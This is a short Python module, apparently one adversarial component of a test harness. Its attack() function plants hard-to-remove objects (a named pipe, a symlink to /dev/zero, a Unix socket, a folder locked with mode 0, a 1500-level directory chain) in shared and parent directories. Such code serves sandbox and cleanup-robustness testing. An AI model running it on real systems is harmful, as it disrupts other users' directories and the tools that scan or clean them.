"""Leave what is hard to remove, or to look at."""

from __future__ import annotations

import os
import socket
from contextlib import suppress

from common import SHARED, aims


def attack() -> None:
    for folder in [*SHARED[:4], '.', '..']:
        with suppress(OSError):
            os.chdir(folder)
            os.mkfifo(f'fifo-{aims.mark}')
            os.symlink('/dev/zero', f'link-{aims.mark}')
            socket.socket(socket.AF_UNIX).bind(f'socket-{aims.mark}')
            os.makedirs(f'folder-{aims.mark}/closed')
            os.chmod(f'folder-{aims.mark}', 0)
    with suppress(OSError):
        os.mkdir(f'deep-{aims.mark}')
        os.chdir(f'deep-{aims.mark}')
        for _ in range(1500):
            os.mkdir('deep')
            os.chdir('deep')
